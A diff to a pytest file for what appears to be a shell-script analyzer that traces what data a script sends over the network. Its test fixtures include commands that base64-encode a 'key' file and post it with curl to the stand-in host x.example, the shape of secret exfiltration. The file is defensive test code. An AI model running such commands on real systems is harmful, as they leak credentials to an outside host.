@@ -74,6 +74,21 @@ def test_a_signature_that_the_sample_works_out_is_a_loss(signing: str, name: str
     assert "digest-computed" in ids(f'{signing}\n{SEND} -d text=Hi -d "{name}=$S"')
 
 
+# What a command gives variables or arguments in a way that no rule shows is open.
+@pytest.mark.parametrize(
+    ("before", "value", "name"),
+    [
+        ('read A B <<< "$X"', "$A", "A"),
+        ("set -- 1 2; shift $N", "$1", "ARGUMENT_1"),
+        ("A=$(base64 < key)", "$A", "A"),
+        ("A=$(openssl base64 < key)", "$A", "A"),
+    ],
+)
+def test_what_no_rule_shows_is_a_variable(before: str, value: str, name: str) -> None:
+    read = reading.read(Source("script", f'{before}; curl https://x.example/send -d "a={value}"'))
+    assert read.request.body == f"a={stand_in(name)}".encode()
+
+
 def test_characters_are_taken_out_of_texts_and_never_out_of_names_of_variables() -> None:
     read = reading.read(
         Source("script", """N=$(printf 'O%sO' "$FOO" | tr -d 'OF'); curl https://x.example/send -d "n=$N" """)
